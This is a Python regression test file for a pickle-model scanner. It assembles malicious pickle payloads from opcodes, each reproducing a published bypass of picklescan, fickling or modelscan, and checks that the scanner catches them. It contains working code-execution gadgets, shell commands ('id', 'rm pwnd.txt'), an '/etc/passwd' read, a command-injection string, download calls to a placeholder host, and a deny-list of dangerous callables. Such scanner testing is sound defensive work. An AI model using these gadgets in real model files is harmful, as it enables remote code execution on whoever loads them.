"""One regression test per published bypass of pickle scanners, plus the classic payloads.

Every payload is assembled here from opcodes (never by unpickling anything) and must be caught by
``analyze_pickle``: a finding of severity HIGH or above, or ``unverified`` for streams CPython would reject.
Advisories: https://github.com/mmaitre314/picklescan/security,
https://github.com/trailofbits/fickling/security,
protectai/modelscan and promptfoo/modelaudit issues (cited per test).
"""

from __future__ import annotations

import base64
import marshal
import pickle
import struct
import zlib

import pytest

from loopwarden.checks.interface import Limits
from loopwarden.checks.models.allowlist import AllowList
from loopwarden.checks.models.pickle_vm import PickleResult, analyze_pickle_bytes
from loopwarden.domain import Severity

# --- a tiny pickle assembler --------------------------------------------------------------------------------

PROTO = b"\x80"
STOP = b"."
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
REDUCE = b"R"
BUILD = b"b"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
POP = b"0"
NONE = b"N"
NEWTRUE = b"\x88"
SETITEM = b"s"
APPENDS = b"e"
OBJ = b"o"
NEWOBJ = b"\x81"
DICT = b"d"


def proto(n: int = 4) -> bytes:
    return PROTO + bytes([n])


def u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = s.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def sb(b: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def string(s: str) -> bytes:
    """Protocol-0 STRING."""
    return b"S" + repr(s).encode() + b"\n"


def unicode0(s: str) -> bytes:
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    return u(module) + u(name) + STACK_GLOBAL


def binint1(i: int) -> bytes:
    return b"K" + bytes([i])


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def args(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(module: str, name: str, *arg_ops: bytes, stack_global: bool = True) -> bytes:
    """A complete pickle calling ``module.name(*args)``."""
    g = sglob(module, name) if stack_global else glob(module, name)
    return proto(4) + g + args(*arg_ops) + REDUCE + STOP


def reduce_of(module: str, name: str, *arg_ops: bytes) -> bytes:
    """The opcodes (not a full pickle) of one call, leaving its result on the stack."""
    return sglob(module, name) + args(*arg_ops) + REDUCE


def scan(data: bytes, **kw: object) -> PickleResult:
    return analyze_pickle_bytes(data, **kw)  # type: ignore[arg-type]


def assert_caught(result: PickleResult, *subjects: str) -> None:
    worst = max((f.severity for f in result.findings), default=None)
    assert worst is not None, result
    assert worst >= Severity.HIGH, result
    reached = " ".join(
        [
            *result.callables,
            *(
                str(f.evidence.get(k))
                for f in result.findings
                for k in ("subject", "canonical", "written_as")
            ),
        ]
    )
    for s in subjects:
        assert s in reached, (s, result)


PAYLOAD = u("id")
CODE = u("__import__('os').system('id')")

# --- picklescan advisories: alternative execution primitives ------------------------------------------------

_PICKLESCAN_GADGETS = [
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (CODE, EMPTY_DICT)),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", (EMPTY_DICT, CODE)),
    (
        "GHSA-f4x7-rfwp-v3xw",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        (EMPTY_DICT, CODE, EMPTY_LIST),
    ),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (PAYLOAD,)),
    ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all", (EMPTY_DICT, PAYLOAD)),
    (
        "GHSA-h3qp-7fh3-f8h4",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        (u("pickle"), sb(b"x")),
    ),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (CODE,)),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", (EMPTY_DICT, sb(b"x"))),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", (EMPTY_DICT, CODE)),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", (EMPTY_DICT, CODE, EMPTY_DICT, EMPTY_DICT)),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", (EMPTY_DICT, CODE)),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", (EMPTY_DICT, CODE, EMPTY_DICT, EMPTY_DICT)),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", (EMPTY_DICT, sb(b"x"))),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", (EMPTY_DICT, CODE)),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", (EMPTY_DICT, CODE)),
    (
        "GHSA-7cq8-mj8x-j263",
        "idlelib.autocomplete",
        "AutoComplete.fetch_completions",
        (EMPTY_DICT, CODE, binint1(1)),
    ),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", (EMPTY_DICT, CODE)),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", (EMPTY_DICT, CODE)),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (CODE,)),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, EMPTY_DICT)),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (EMPTY_LIST,)),
    (
        "GHSA-p9w7-82w4-7q8m",
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        (EMPTY_DICT, EMPTY_DICT, CODE),
    ),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", (EMPTY_DICT, CODE)),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", (EMPTY_DICT, CODE)),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", (EMPTY_DICT, CODE)),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (CODE,)),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (CODE, EMPTY_DICT, EMPTY_DICT)),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (CODE,)),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", (CODE,)),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", (EMPTY_DICT, PAYLOAD)),
    ("GHSA-f7qq-56ww-84cr", "asyncio.unix_events", "_UnixSubprocessTransport._start", (EMPTY_DICT, PAYLOAD)),
    ("GHSA-jgw4-cr84-mqxg", "asyncio.unix_events", "_UnixSubprocessTransport._start", (EMPTY_DICT, PAYLOAD)),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", (u("/tmp/x"), EMPTY_LIST)),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (u("libc.so.6"),)),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (PAYLOAD,)),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (CODE, EMPTY_DICT)),
    ("GHSA-9726-w42j-3qjr", "_io", "FileIO", (u("/etc/passwd"),)),
    ("GHSA-m7j5-r2p5-c39r", "logging", "FileHandler", (u("/tmp/x"),)),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", (u("os:system"),)),
    ("GHSA-9m3x-qqw2-h32h", "types", "CodeType", (binint1(0),)),
    ("CVE-2025-1716", "pip", "main", (EMPTY_LIST,)),
]


@pytest.mark.parametrize(
    ("advisory", "module", "name", "arg_ops"),
    _PICKLESCAN_GADGETS,
    ids=[g[0] + "-" + g[2] for g in _PICKLESCAN_GADGETS],
)
def test_picklescan_gadget(advisory: str, module: str, name: str, arg_ops: tuple[bytes, ...]) -> None:
    """picklescan blocklist gaps, https://github.com/mmaitre314/picklescan/security/advisories/<advisory>
    (CVE-2025-1716: https://osv.dev/vulnerability/CVE-2025-1716). Each is reached with GLOBAL and
    STACK_GLOBAL."""
    for sg in (True, False):
        assert_caught(scan(call(module, name, *arg_ops, stack_global=sg)), f"{module}.{name}")


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("uuid", "_get_command_stdout"),
        ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
        ("test.support.script_helper", "assert_python_ok"),
    ],
)
def test_ghsa_g38g_8gr9_h9xp_stdlib_rce(module: str, name: str) -> None:
    """Stdlib functions that run commands,
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-g38g-8gr9-h9xp"""
    assert_caught(scan(call(module, name, PAYLOAD)), f"{module}.{name}")


def test_ghsa_9gvj_pp9x_gcfr_stack_global_without_proto() -> None:
    """STRING names + STACK_GLOBAL in a protocol-0 stream (no PROTO),
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9gvj-pp9x-gcfr"""
    data = string("os") + string("system") + STACK_GLOBAL + string("ls") + TUPLE1 + REDUCE + STOP
    assert_caught(scan(data), "os.system")


def test_ghsa_84r2_jw7c_4r5q_pydoc_locate_methodcaller() -> None:
    """pydoc.locate + operator.methodcaller,
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-84r2-jw7c-4r5q"""
    data = (
        proto(4)
        + reduce_of("operator", "methodcaller", u("system"), PAYLOAD)
        + reduce_of("pydoc", "locate", u("os"))
        + TUPLE1
        + REDUCE
        + STOP
    )
    r = scan(data)
    assert_caught(r, "pydoc.locate", "operator.methodcaller", "os.system")


def test_ghsa_955r_x9j8_7rhh_private_operator_methodcaller() -> None:
    """_operator.methodcaller over builtins.__import__,
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-955r-x9j8-7rhh"""
    data = (
        glob("builtins", "__import__")
        + MARK
        + unicode0("os")
        + TUPLE
        + REDUCE
        + b"p0\n"
        + POP
        + glob("_operator", "methodcaller")
        + MARK
        + unicode0("system")
        + unicode0("id")
        + TUPLE
        + REDUCE
        + MARK
        + b"g0\n"
        + TUPLE
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "_operator.methodcaller", "os.system")


def test_ghsa_46h3_79wf_xr6c_private_operator_attrgetter() -> None:
    """_operator.attrgetter over builtins.__import__,
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-46h3-79wf-xr6c"""
    data = (
        proto(4)
        + reduce_of("_operator", "attrgetter", u("system"))
        + reduce_of("builtins", "__import__", u("os"))
        + TUPLE1
        + REDUCE
        + PAYLOAD
        + TUPLE1
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "_operator.attrgetter", "os.system")


def test_ghsa_97f8_7cmv_76j2_legacy_torch_magic_via_eval() -> None:
    """Legacy torch file whose magic number is produced by eval, then a payload pickle,
    https://github.com/mmaitre314/picklescan/security/advisories/GHSA-97f8-7cmv-76j2"""
    first = proto(2) + glob("__builtin__", "eval") + string("0x1950A86A20F9469CFC6C") + TUPLE1 + REDUCE + STOP
    rest = [proto(2) + b"M\xe9\x03" + STOP, proto(2) + EMPTY_DICT + STOP, proto(2) + EMPTY_LIST + STOP]
    payload = proto(2) + glob("posix", "system") + string("id") + TUPLE1 + REDUCE + STOP
    r = scan(first + b"".join(rest) + payload + b"\x00" * 64, max_pickles=5)
    assert_caught(r, "builtins.eval", "os.system")


def test_picklescan_22_memo_stack_global() -> None:
    """Names fetched from the memo for STACK_GLOBAL, https://github.com/mmaitre314/picklescan/issues/22"""
    data = (
        proto(4)
        + u("os")
        + MEMOIZE
        + POP
        + u("system")
        + MEMOIZE
        + POP
        + u("torch")
        + MEMOIZE
        + POP
        + u("FloatStorage")
        + MEMOIZE
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + PAYLOAD
        + TUPLE1
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "os.system")


def test_picklescan_26_text_memo_and_trailing_bytes() -> None:
    """UNICODE + PUT/GET text memo feeding STACK_GLOBAL, trailing whitespace after STOP,
    https://github.com/mmaitre314/picklescan/pull/26"""
    data = (
        unicode0("os")
        + b"p2\n"
        + POP
        + unicode0("system")
        + b"p3\n"
        + POP
        + unicode0("torch")
        + b"p0\n"
        + POP
        + unicode0("LongStorage")
        + b"p1\n"
        + POP
        + b"g2\n"
        + b"g3\n"
        + STACK_GLOBAL
        + MARK
        + unicode0("cat flag.txt")
        + TUPLE
        + REDUCE
        + STOP
        + b"\n\n\t\t"
    )
    assert_caught(scan(data), "os.system")


def test_picklescan_52_keyerror_memo_after_payload() -> None:
    """Payload, then a GET of an undefined memo entry that crashed the scanner,
    https://github.com/mmaitre314/picklescan/pull/52 (keyerror-exploit)"""
    data = (
        proto(4)
        + glob("os", "system")
        + unicode0("echo pwned")
        + TUPLE1
        + REDUCE
        + POP
        + u("os")
        + MEMOIZE
        + get(3)
        + get(0)
        + STACK_GLOBAL
        + binint1(0x42)
        + STOP
    )
    r = scan(data)
    assert_caught(r, "os.system")
    assert r.unverified is not None
    assert "undefined memo" in r.unverified


def test_picklescan_52_type_confusion_after_payload() -> None:
    """Payload, then STACK_GLOBAL on an int and a str, https://github.com/mmaitre314/picklescan/pull/52"""
    data = (
        proto(4)
        + glob("os", "system")
        + unicode0("echo")
        + TUPLE1
        + REDUCE
        + POP
        + b"J\x2a\x00\x00\x00"
        + MEMOIZE
        + u("os")
        + MEMOIZE
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + binint1(1)
        + STOP
    )
    r = scan(data)
    assert_caught(r, "os.system")
    assert r.unverified is not None


def test_picklescan_33_broken_pickle_payload_before_break() -> None:
    """A payload followed by a truncated stream, https://github.com/mmaitre314/picklescan/pull/33"""
    data = proto(2) + glob("builtins", "exec") + u("import os") + TUPLE1 + REDUCE + u("more")
    r = scan(data)
    assert_caught(r, "builtins.exec")
    assert r.unverified is not None
    assert "truncated" in r.unverified


# --- fickling advisories -----------------------------------------------------------------------------------


def test_fickling_ghsa_r7v6_mfhq_g3m2_pty_with_build() -> None:
    """pty.spawn whose result is used by BUILD,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-r7v6-mfhq-g3m2"""
    data = (
        proto(4)
        + b"\x95"
        + struct.pack("<Q", 26)
        + u("pty")
        + MEMOIZE
        + u("spawn")
        + MEMOIZE
        + STACK_GLOBAL
        + MEMOIZE
        + u("id")
        + MEMOIZE
        + TUPLE1
        + MEMOIZE
        + REDUCE
        + MEMOIZE
        + u("gottem")
        + MEMOIZE
        + BUILD
        + STOP
    )
    assert_caught(scan(data), "pty.spawn")


def test_fickling_pr108_inst_obj_form() -> None:
    """MARK GLOBAL args OBJ, https://github.com/trailofbits/fickling/pull/108"""
    assert_caught(scan(b'(cpty\nspawn\nS"id"\no.'), "pty.spawn")


def test_inst_opcode_form() -> None:
    """INST names the class inline: the protocol-0 form of the same call (fickling pull 108 variant)."""
    assert_caught(scan(b"(S'id'\nios\nsystem\n."), "os.system")


def test_fickling_ghsa_565g_hwwr_4pp3_marshal_function_type() -> None:
    """marshal.loads + types.FunctionType,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-565g-hwwr-4pp3"""
    code = marshal.dumps(compile("1", "<s>", "exec"))
    data = (
        proto(4)
        + sglob("marshal", "loads")
        + MEMOIZE
        + sb(code)
        + TUPLE1
        + REDUCE
        + MEMOIZE
        + sglob("types", "FunctionType")
        + MEMOIZE
        + get(2)
        + get(1)
        + EMPTY_DICT
        + TUPLE2
        + REDUCE
        + MEMOIZE
        + get(3)
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    )
    r = scan(data)
    assert_caught(r, "marshal.loads", "types.FunctionType")


def test_fickling_ghsa_wfq2_52f7_7qvj_runpy() -> None:
    """runpy.run_path, https://github.com/trailofbits/fickling/security/advisories/GHSA-wfq2-52f7-7qvj"""
    assert_caught(scan(call("runpy", "run_path", u("/tmp/malicious.py"))), "runpy.run_path")


def test_fickling_ghsa_p523_jq9w_64x9_cprofile() -> None:
    """cProfile.run, https://github.com/trailofbits/fickling/security/advisories/GHSA-p523-jq9w-64x9"""
    assert_caught(scan(call("cProfile", "run", u("print(1)"))), "cProfile.run")


def _getattr_chain(module: str, name: str, attr: str, *final: bytes, ctor_args: bytes = EMPTY_TUPLE) -> bytes:
    return (
        proto(5)
        + sglob("builtins", "getattr")
        + MEMOIZE
        + sglob(module, name)
        + ctor_args
        + REDUCE
        + u(attr)
        + TUPLE2
        + REDUCE
        + args(*final)
        + REDUCE
        + STOP
    )


def test_fickling_ghsa_q5qq_mvfm_j35x_ctypes_via_getattr() -> None:
    """getattr(ctypes.CDLL(...), 'system'),
    https://github.com/trailofbits/fickling/security/advisories/GHSA-q5qq-mvfm-j35x"""
    data = _getattr_chain("ctypes", "CDLL", "system", sb(b"id"), ctor_args=u("libc.so.6") + TUPLE1)
    assert_caught(scan(data), "ctypes.CDLL", "builtins.getattr")


def test_fickling_ghsa_q5qq_mvfm_j35x_importlib_via_getattr() -> None:
    """getattr(importlib.import_module('os'), 'system'),
    https://github.com/trailofbits/fickling/security/advisories/GHSA-q5qq-mvfm-j35x"""
    data = _getattr_chain("importlib", "import_module", "system", PAYLOAD, ctor_args=u("os") + TUPLE1)
    assert_caught(scan(data), "importlib.import_module", "os.system")


def test_fickling_ghsa_q5qq_mvfm_j35x_code_interpreter() -> None:
    """code.InteractiveInterpreter().runsource,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-q5qq-mvfm-j35x"""
    data = _getattr_chain("code", "InteractiveInterpreter", "runsource", CODE)
    assert_caught(scan(data), "code.InteractiveInterpreter.runsource")


def test_fickling_ghsa_q5qq_mvfm_j35x_multiprocessing_spawnv_passfds() -> None:
    """multiprocessing.util.spawnv_passfds,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-q5qq-mvfm-j35x"""
    data = call(
        "multiprocessing.util",
        "spawnv_passfds",
        sb(b"/bin/sh"),
        EMPTY_LIST + MARK + sb(b"/bin/sh") + sb(b"-c") + sb(b"id") + APPENDS,
        EMPTY_TUPLE,
    )
    assert_caught(scan(data), "multiprocessing.util.spawnv_passfds")


def test_fickling_ghsa_5hvc_6wx8_mvv4_pydoc_locate() -> None:
    """pydoc.locate('os.system')('id'),
    https://github.com/trailofbits/fickling/security/advisories/GHSA-5hvc-6wx8-mvv4"""
    data = proto(5) + reduce_of("pydoc", "locate", u("os.system")) + PAYLOAD + TUPLE1 + REDUCE + STOP
    assert_caught(scan(data), "pydoc.locate", "os.system")


def test_fickling_ghsa_h4rm_mm56_xf63_import_getattr_memo() -> None:
    """__import__ and getattr through PUT/GET,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-h4rm-mm56-xf63"""
    data = (
        glob("builtins", "__import__")
        + string("os")
        + TUPLE1
        + REDUCE
        + b"p0\n"
        + POP
        + glob("builtins", "getattr")
        + b"g0\n"
        + string("system")
        + TUPLE2
        + REDUCE
        + b"p1\n"
        + POP
        + b"g1\n"
        + string("whoami")
        + TUPLE1
        + REDUCE
        + STOP
    )
    assert_caught(scan(data), "os.system")


def test_fickling_ghsa_mxhj_88fx_4pcv_obj_popped() -> None:
    """An OBJ call whose result is discarded by POP,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-mxhj-88fx-4pcv"""
    data = proto(4) + MARK + sglob("smtplib", "SMTP") + u("127.0.0.1") + OBJ + POP + NONE + STOP
    assert_caught(scan(data), "smtplib.SMTP")


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("uuid", "_get_command_stdout"),
        ("_aix_support", "_read_cmd_output"),
        ("_osx_support", "_find_build_tool"),
    ],
)
def test_fickling_ghsa_5hwf_rc88_82xm(module: str, name: str) -> None:
    """Private stdlib helpers that spawn commands,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-5hwf-rc88-82xm"""
    assert_caught(scan(call(module, name, u("x; echo INJECTED #"))), f"{module}.{name}")


def test_fickling_ghsa_5j3x_jp52_966f_dotted_attr_via_stdlib_module() -> None:
    """STACK_GLOBAL('pathlib', 'os.system'),
    https://github.com/trailofbits/fickling/security/advisories/GHSA-5j3x-jp52-966f"""
    data = proto(4) + sglob("pathlib", "os.system") + PAYLOAD + TUPLE1 + REDUCE + STOP
    r = scan(data)
    assert_caught(r, "pathlib.os.system")
    assert any(f.severity is Severity.CRITICAL for f in r.findings)


def test_fickling_ghsa_cffv_grgg_g429_ast_import() -> None:
    """An import outside the ML allow-list (ast.parse),
    https://github.com/trailofbits/fickling/security/advisories/GHSA-cffv-grgg-g429"""
    assert_caught(scan(proto(4) + sglob("ast", "parse") + STOP), "ast.parse")


@pytest.mark.parametrize("module", ["_interpreters", "_xxsubinterpreters"])
def test_fickling_ghsa_6ggj_6f2q_f7mx_subinterpreters_via_build(module: str) -> None:
    """Subinterpreter run_string routed through BUILD/__setstate__,
    https://github.com/trailofbits/fickling/security/advisories/GHSA-6ggj-6f2q-f7mx"""
    data = (
        proto(4)
        + sglob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + reduce_of(module, "run_string", reduce_of(module, "create"), CODE)
        + BUILD
        + STOP
    )
    assert_caught(scan(data), f"{module}.create", f"{module}.run_string")


@pytest.mark.parametrize(
    ("module", "cls"),
    [
        ("smtplib", "SMTP"),
        ("imaplib", "IMAP4"),
        ("ftplib", "FTP"),
        ("poplib", "POP3"),
        ("telnetlib", "Telnet"),
        ("nntplib", "NNTP"),
    ],
)
def test_fickling_network_protocol_ssrf(module: str, cls: str) -> None:
    """Network clients constructed at load time (SSRF), https://github.com/trailofbits/fickling/pull/210"""
    data = (
        proto(4)
        + glob(module, cls)
        + u("127.0.0.1")
        + binint1(25)
        + TUPLE2
        + REDUCE
        + EMPTY_DICT
        + BUILD
        + STOP
    )
    assert_caught(scan(data), f"{module}.{cls}")


# --- modelscan issues --------------------------------------------------------------------------------------


def test_modelscan_85_build_sets_attributes_on_allowed_global() -> None:
    """BUILD slot-state sets attributes on numpy.prod, then dotted names read them back,
    https://github.com/protectai/modelscan/issues/85"""
    data = (
        proto(5)
        + glob("numpy", "prod")
        + NONE
        + MARK
        + unicode0("a")
        + unicode0("os")
        + DICT
        + TUPLE2
        + BUILD
        + NONE
        + MARK
        + unicode0("b")
        + unicode0("system")
        + DICT
        + TUPLE2
        + BUILD
        + POP
        + glob("numpy", "prod.a")
        + b"p0\n"
        + glob("numpy", "prod.b")
        + b"p1\n"
        + POP
        + POP
        + b"g0\n"
        + b"g1\n"
        + STACK_GLOBAL
        + unicode0("echo pwned")
        + TUPLE1
        + REDUCE
        + STOP
    )
    r = scan(data)
    assert_caught(r)
    assert any(f.rule_id == "LW-MODEL-009" and f.severity is Severity.CRITICAL for f in r.findings)


def test_modelscan_89_numpy_builtins_dict_get() -> None:
    """builtins.dict.get on numpy.__builtins__ fetches eval,
    https://github.com/protectai/modelscan/issues/89"""
    data = (
        proto(5)
        + glob("builtins", "dict.get")
        + glob("numpy", "__builtins__")
        + unicode0("exec")
        + TUPLE2
        + REDUCE
        + unicode0('__import__("os").system("id")')
        + TUPLE1
        + REDUCE
        + STOP
    )
    r = scan(data)
    assert_caught(r, "numpy.__builtins__")
    assert any(f.severity is Severity.CRITICAL for f in r.findings)


def test_modelscan_89_numpy_internal_sys_modules() -> None:
    """numpy.core._internal.sys.modules via BUILD, https://github.com/protectai/modelscan/issues/89"""
    data = (
        proto(5)
        + glob("numpy", "prod")
        + NONE
        + glob("numpy", "core._internal.sys.modules")
        + TUPLE2
        + BUILD
        + POP
        + glob("numpy", "prod.os.system")
        + unicode0("echo pwned")
        + TUPLE1
        + REDUCE
        + STOP
    )
    r = scan(data)
    assert_caught(r, "numpy.core._internal.sys.modules")
    assert any(f.severity is Severity.CRITICAL for f in r.findings)


def test_modelscan_330_numpy_size_builtins_build() -> None:
    """numpy.__builtins__ stored into numpy.size by BUILD,
    https://github.com/protectai/modelscan/issues/330"""
    data = bytes.fromhex(
        "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f"
        "93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322"
        "292e73797374656d28226964222985522e"
    )
    r = scan(data)
    assert_caught(r, "numpy.__builtins__")


def test_modelscan_331_importlib_and_str_join() -> None:
    """import_module('builtins') + getattr(str, 'join') to build 'os' at load time,
    https://github.com/protectai/modelscan/issues/331"""
    join = sglob("builtins", "getattr") + get(1) + u("str") + TUPLE2 + REDUCE + u("join") + TUPLE2 + REDUCE
    data = (
        proto(4)
        + sglob("importlib", "import_module")
        + MEMOIZE
        + u("builtins")
        + TUPLE1
        + REDUCE
        + MEMOIZE
        + sglob("builtins", "getattr")
        + MEMOIZE
        + get(2)
        + get(2)
        + get(1)
        + u("str")
        + TUPLE2
        + REDUCE
        + u("join")
        + TUPLE2
        + REDUCE
        + u("")
        + EMPTY_LIST
        + MARK
        + u("o")
        + u("s")
        + APPENDS
        + TUPLE2
        + REDUCE
        + MEMOIZE
        + STOP
    )
    del join
    assert_caught(scan(data), "importlib.import_module", "builtins.getattr")


def test_modelscan_267_nested_pickle_loads() -> None:
    """pickle.loads of an embedded pickle, https://github.com/protectai/modelscan/issues/267"""
    inner = proto(2) + glob("os", "system") + string("id") + TUPLE1 + REDUCE + STOP
    r = scan(call("pickle", "loads", sb(inner)))
    assert_caught(r, "pickle.loads", "os.system")
    assert any(f.evidence.get("nested_in") for f in r.findings)


@pytest.mark.parametrize(
    ("module", "name", "arg"),
    [
        ("torch.utils.collect_env", "run", u("rm pwnd.txt")),
        ("mlflow.projects.backend.local", "_run_entry_point", u("echo pwned")),
        ("pandas.io.parsers.readers", "read_csv", u("https://example.invalid/?x")),
        ("urllib.request", "urlretrieve", u("https://example.invalid/x")),
    ],
)
def test_modelscan_338_false_negatives(module: str, name: str, arg: bytes) -> None:
    """Malicious models found on Hugging Face, https://github.com/protectai/modelscan/issues/338"""
    assert_caught(scan(call(module, name, arg)), f"{module}.{name}")


# --- modelaudit --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        # defaultdict factory and list(map(os.system, [...]))
        proto(4)
        + reduce_of("builtins", "list", reduce_of("builtins", "map", sglob("os", "system"), EMPTY_LIST))
        + STOP,
        proto(4) + reduce_of("weakref", "finalize", EMPTY_DICT, sglob("os", "system"), PAYLOAD) + STOP,
        proto(4) + reduce_of("re", "sub", u("x"), sglob("builtins", "print"), u("x")) + STOP,
        proto(4) + reduce_of("itertools", "starmap", sglob("builtins", "exec"), EMPTY_LIST) + STOP,
    ],
    ids=["map", "weakref-finalize", "re-sub-callback", "itertools-starmap"],
)
def test_modelaudit_call_graph_dispatch(payload: bytes) -> None:
    """Callables reached through dispatch surfaces (map, weakref callbacks, regex callbacks, itertools),
    https://github.com/promptfoo/modelaudit/pull/1061"""
    assert_caught(scan(payload))


def test_modelaudit_6266_hang_is_bounded() -> None:
    """A pickle that hung a scanner: opcodes are bounded,
    https://github.com/promptfoo/promptfoo/issues/6266"""
    body = proto(4) + EMPTY_LIST + (MARK + binint1(1) * 1000 + APPENDS) * 200 + STOP
    r = scan(body, limits=Limits(max_opcodes=10_000))
    assert r.unverified is not None
    assert "max_opcodes" in r.unverified


# --- classes of bypass -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("os", "system"),
        ("posix", "system"),
        ("nt", "system"),
        ("os", "popen"),
        ("os", "execv"),
        ("os", "remove"),
        ("os.path", "join.__globals__"),
        ("subprocess", "Popen"),
        ("subprocess", "call"),
        ("subprocess", "check_output"),
        ("subprocess", "run"),
        ("_posixsubprocess", "fork_exec"),
        ("builtins", "eval"),
        ("builtins", "exec"),
        ("builtins", "compile"),
        ("builtins", "open"),
        ("builtins", "__import__"),
        ("builtins", "getattr"),
        ("__builtin__", "eval"),
        ("__builtins__", "exec"),
        ("runpy", "_run_code"),
        ("runpy", "run_module"),
        ("webbrowser", "open"),
        ("socket", "create_connection"),
        ("shutil", "rmtree"),
        ("requests.api", "get"),
        ("requests", "post"),
        ("urllib.request", "urlopen"),
        ("http.client", "HTTPSConnection"),
        ("httplib", "HTTPSConnection"),
        ("aiohttp.client", "ClientSession"),
        ("code", "InteractiveInterpreter"),
        ("timeit", "timeit"),
        ("pty", "spawn"),
        ("asyncio", "create_subprocess_shell"),
        ("asyncio.subprocess", "create_subprocess_exec"),
        ("ctypes", "CDLL"),
        ("sys", "exit"),
        ("numpy.testing._private.utils", "runstring"),
        ("numpy", "load"),
        ("numpy.lib.npyio", "load"),
        ("torch", "load"),
        ("torch.hub", "load"),
        ("torch.jit", "load"),
        ("torch.serialization", "load"),
        ("torch.storage", "_load_from_bytes"),
        ("pickle", "loads"),
        ("_pickle", "loads"),
        ("cPickle", "loads"),
        ("marshal", "loads"),
        ("dill", "loads"),
        ("yaml", "load"),
        ("joblib", "load"),
        ("pip._internal.cli.main", "main"),
        ("setuptools.sandbox", "run_setup"),
        ("distutils.spawn", "spawn"),
        ("venv", "create"),
        ("bdb", "Bdb.run"),
        ("pdb", "Pdb.run"),
        ("trace", "Trace.runfunc"),
        ("os", "posix_spawn"),
        ("threading", "Thread"),
